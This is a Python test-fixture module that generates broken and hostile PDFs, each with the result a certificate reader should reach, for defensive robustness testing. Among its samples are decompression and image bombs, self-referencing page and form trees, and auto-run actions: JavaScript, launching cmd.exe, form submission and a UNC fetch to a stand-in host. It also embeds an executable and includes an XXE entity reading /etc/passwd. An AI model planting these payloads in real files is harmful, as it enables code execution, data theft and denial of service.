"""Which PDFs want to do harm or are broken? Each with how its reading must end."""

import io
from collections.abc import Callable, Iterator

import pypdf

from tests.certificates.dice import Dice
from tests.certificates.layouts import online
from tests.certificates.others import raw

# Contents, then the kinds with which a reading may end, then the reasons when it is refused; no reason: any.
Hostile = tuple[bytes, tuple[str, ...], tuple[str, ...]]
DAMAGED: tuple[tuple[str, ...], tuple[str, ...]] = (("refused", "unreadable", "not_certificate"), ())
OPENS: tuple[tuple[str, ...], tuple[str, ...]] = (("not_certificate", "unreadable"), ())
EITHER: tuple[tuple[str, ...], tuple[str, ...]] = (("not_certificate", "unreadable", "refused"), ())
LOCKED: tuple[tuple[str, ...], tuple[str, ...]] = (("refused",), ("locked",))
PAGES: tuple[tuple[str, ...], tuple[str, ...]] = (("refused",), ("too-many-pages",))
PROPER_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
)

MEGABYTE = 1024 * 1024


def certificate(dice: Dice) -> bytes:
    """A genuine certificate to be spoiled."""
    return online.stamped(dice)[0]


def locked(pdf: bytes, user: str, owner: str, algorithm: str = "AES-256") -> bytes:
    """The same under a password."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf))
    writer.encrypt(user, owner, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        raw.FONT,
    ]
    return raw.pdf([*objects, *([page] * count)])


def _tree(kids: bytes, count: int, *more: bytes) -> bytes:
    return raw.pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            *more,
        ]
    )


def _laughs(levels: int) -> bytes:
    """Forms that draw the next form ten times each."""
    more = []
    for n in range(levels):
        inner = b"/X Do " * 10 if n < levels - 1 else raw.MEMO
        uses = b"/Resources << /XObject << /X %d 0 R >> /Font << /F1 4 0 R >> >>" % (n + 7)
        more.append(raw.stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] " + uses))
    page = raw.PAGE.replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<")
    return raw.one_page(b"/X Do " * 10, page=page, more=more)


def _own_form() -> bytes:
    """A form that draws itself."""
    own = raw.stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return raw.one_page(
        b"/X Do", page=raw.PAGE.replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<"), more=[own]
    )


def _large_image(wide: int, high: int) -> bytes:
    """A page with one picture of many pixels that compresses to little."""
    data = raw.deflated(b"\x00" * (wide // 8), high)
    image = raw.stream(
        data,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 "
        b"/Filter /FlateDecode" % (wide, high),
    )
    page = raw.PAGE.replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<")
    return raw.one_page(b"612 0 0 792 0 0 cm /X Do", page=page, more=[image])


def _hidden(dice: Dice, setting: bytes, seen: bytes) -> bytes:
    """A page on which a certificate stands that no eye sees."""
    lines = (
        b"Certificate of Completion",
        b"This certifies that Dana Example",
        b"has successfully completed",
        b"Crisis Intervention for Patrol",
        b"March 9, 2026   8 hours",
    )
    text = b"".join(b"0 -30 Td (%s) Tj " % line for line in lines)
    return raw.one_page(seen + b" BT %s /F1 16 Tf 100 600 Td %s ET" % (setting, text))


def _broken(dice: Dice) -> Iterator[tuple[str, Hostile]]:
    whole = certificate(dice)
    yield "half", (whole[: len(whole) // 2], *DAMAGED)
    yield "first-kilobyte", (whole[:1024], *DAMAGED)
    yield "only-header", (b"%PDF-1.7\n", *DAMAGED)
    yield "header-and-end", (b"%PDF-1.7\n%%EOF\n", *DAMAGED)
    yield "header-and-noise", (b"%PDF-1.7\n" + dice.random.randbytes(5000), *DAMAGED)
    yield "zeros-inside", (whole[:200] + bytes(len(whole) - 400) + whole[-200:], *DAMAGED)
    yield "no-pages", (_tree(b"", 0), *DAMAGED)
    yield "no-catalog", (raw.pdf([b"<< >>"]), *DAMAGED)
    yield "root-missing", (raw.pdf([b"<< >>"], b""), *DAMAGED)
    yield "root-is-page", (raw.pdf([raw.PAGE]), *DAMAGED)
    yield "startxref-past-end", (raw.one_page().replace(b"startxref\n", b"startxref\n99999999"), *DAMAGED)
    yield "startxref-negative", (raw.one_page().replace(b"startxref\n", b"startxref\n-"), *DAMAGED)
    yield (
        "xref-loop",
        (
            raw.pdf(
                [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"],
                b"/Root 1 0 R /Prev 120",
            ),
            *DAMAGED,
        ),
    )
    yield "deep-arrays", (raw.one_page(catalog=b"/Deep " + b"[" * 20000 + b"]" * 20000), *EITHER)
    yield (
        "deep-dictionaries",
        (raw.one_page(catalog=b"/Deep " + b"<</A " * 5000 + b"1" + b">>" * 5000), *EITHER),
    )
    yield "length-lies", (raw.one_page().replace(b"/Length ", b"/Length 99999"), *EITHER)
    yield (
        "length-is-itself",
        (
            raw.pdf(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    raw.PAGE,
                    raw.FONT,
                    b"<< /Length 5 0 R >>\nstream\nq Q\nendstream",
                ]
            ),
            *EITHER,
        ),
    )


def _trees(dice: Dice) -> Iterator[tuple[str, Hostile]]:
    yield "page-tree-own-child", (_tree(b"2 0 R", 1), *DAMAGED)
    yield (
        "page-tree-ring",
        (
            _tree(
                b"3 0 R",
                1,
                b"<< /Type /Pages /Kids [4 0 R] /Parent 2 0 R /Count 1 >>",
                b"<< /Type /Pages /Kids [2 0 R] /Parent 3 0 R /Count 1 >>",
            ),
            *DAMAGED,
        ),
    )
    yield "page-count-lies", (raw.one_page().replace(b"/Count 1", b"/Count 999999999"), *EITHER)
    yield "page-count-negative", (raw.one_page().replace(b"/Count 1", b"/Count -5"), *EITHER)
    yield (
        "same-page-500-times",
        (raw.one_page().replace(b"[3 0 R] /Count 1", b"[%s] /Count 500" % (b"3 0 R " * 500)), *PAGES),
    )
    yield "pages-1000", (_pages(1000), *PAGES)
    yield "pages-21", (_pages(21), *PAGES)
    yield "pages-5000", (_pages(5000), *PAGES)


def _bombs(dice: Dice) -> Iterator[tuple[str, Hostile]]:
    flate = b"/Filter /FlateDecode"
    yield "content-bomb", (raw.one_page(raw.deflated(b"q Q " * (MEGABYTE // 4), 300), filters=flate), *EITHER)
    yield (
        "content-bomb-text",
        (raw.one_page(raw.deflated(b"BT /F1 9 Tf (A) Tj ET " * 40000, 100), filters=flate), *EITHER),
    )
    twice = raw.deflated(b"\x00" * MEGABYTE, 400)
    yield (
        "content-bomb-twice",
        (raw.one_page(raw.deflated(twice, 1), filters=b"/Filter [/FlateDecode /FlateDecode]"), *EITHER),
    )
    yield "image-400-megapixels", (_large_image(20000, 20000), *EITHER)
    yield "image-2-gigapixels", (_large_image(65000, 32000), *EITHER)
    yield (
        "image-lies",
        (_large_image(8, 8).replace(b"/Width 8 /Height 8", b"/Width 60000 /Height 60000"), *EITHER),
    )
    yield "forms-ten-to-the-seventh", (_laughs(7), *EITHER)
    yield "form-draws-itself", (_own_form(), *EITHER)
    page = PROPER_PAGE
    yield "page-a-million-points", (raw.one_page(page=page % b"0 0 1000000 1000000"), *EITHER)
    yield "page-a-strip", (raw.one_page(page=page % b"0 0 1 100000"), *EITHER)
    yield "page-of-no-size", (raw.one_page(page=page % b"0 0 0 0"), *EITHER)
    yield "page-inside-out", (raw.one_page(page=page % b"612 792 0 0"), *EITHER)
    yield "page-not-a-number", (raw.one_page(page=page % b"/A /B null 1e999"), *EITHER)
    yield (
        "page-user-unit",
        (raw.one_page(page=raw.PAGE.replace(b"/Type /Page ", b"/Type /Page /UserUnit 75000 ")), *EITHER),
    )
    yield "million-operators", (raw.one_page(b"0 0 m 9 9 l S " * 70000), *EITHER)
    yield (
        "letters-by-the-hundred-thousand",
        (raw.one_page(b"BT /F1 1 Tf 1 1 Td (%s) Tj ET" % (b"certificate " * 20000)), *EITHER),
    )


def _active(dice: Dice) -> Iterator[tuple[str, Hostile]]:
    script = b"/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName:'x',nLaunch:2}\\)) >>"
    yield "script-on-open", (raw.one_page(catalog=script), *OPENS)
    yield "launch-on-open", (raw.one_page(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), *OPENS)
    yield (
        "link-on-open",
        (raw.one_page(catalog=b"/OpenAction << /S /URI /URI (http://192.0.2.7/x) >>"), *OPENS),
    )
    yield (
        "submit-form",
        (raw.one_page(catalog=b"/OpenAction << /S /SubmitForm /F (http://192.0.2.7/) >>"), *OPENS),
    )
    yield (
        "go-to-remote",
        (
            raw.one_page(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.7\\\\share\\\\x.pdf) >>"),
            *OPENS,
        ),
    )
    names = b"/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>"
    yield "program-inside", (raw.one_page(catalog=names, more=[spec, raw.stream(b"MZ\x90\x00")]), *OPENS)
    yield (
        "portfolio",
        (
            raw.one_page(catalog=names + b" /Collection << /View /D >>", more=[spec, raw.stream(b"MZ")]),
            *OPENS,
        ),
    )
    xfa = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]></xdp:xdp>"
    yield (
        "xfa-form",
        (raw.one_page(catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>", more=[raw.stream(xfa)]), *OPENS),
    )
    yield (
        "outline-ring",
        (
            raw.one_page(
                catalog=b"/Outlines 6 0 R",
                more=[
                    b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
                    b"<< /Title (x) /Parent 6 0 R /Next 7 0 R >>",
                ],
            ),
            *OPENS,
        ),
    )
    ring = [b"<< /T (a) /Kids [6 0 R] >>"]
    yield "field-own-child", (raw.one_page(catalog=b"/AcroForm << /Fields [6 0 R] >>", more=ring), *EITHER)
    yield "nothing-on-it", (raw.one_page(b""), *OPENS)
    yield "font-missing", (raw.one_page(page=raw.PAGE.replace(b"/F1 4 0 R", b"/F1 99 0 R")), *OPENS)


def _secret(dice: Dice) -> Iterator[tuple[str, Hostile]]:
    whole = certificate(dice)
    yield "password-aes-256", (locked(whole, "patrol", "chief"), *LOCKED)
    yield "password-aes-128", (locked(whole, "patrol", "chief", "AES-128"), *LOCKED)
    yield "password-rc4-128", (locked(whole, "patrol", "chief", "RC4-128"), *LOCKED)
    yield "password-rc4-40", (locked(whole, "patrol", "chief", "RC4-40"), *LOCKED)
    yield (
        "unknown-cipher",
        (
            raw.one_page().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Unknown /V 9 >>"),
            ("refused",),
            ("locked", "damaged"),
        ),
    )
    yield "invisible-certificate", (_hidden(dice, b"3 Tr", b""), *OPENS)
    yield "invisible-over-a-memo", (_hidden(dice, b"3 Tr", raw.MEMO), *OPENS)
    yield "white-on-white-certificate", (_hidden(dice, b"1 1 1 rg", raw.MEMO), *OPENS)
    yield (
        "certificate-off-the-page",
        (
            _hidden(dice, b"1 0 0 1 5000 5000 cm", raw.MEMO).replace(
                b"BT 1 0 0 1 5000 5000 cm", b"1 0 0 1 5000 5000 cm BT"
            ),
            *OPENS,
        ),
    )


GROUPS: tuple[Callable[[Dice], Iterator[tuple[str, Hostile]]], ...] = (
    _broken,
    _trees,
    _bombs,
    _active,
    _secret,
)


def every(dice: Dice) -> Iterator[tuple[str, Hostile]]:
    """All of them."""
    for group in GROUPS:
        yield from group(dice)
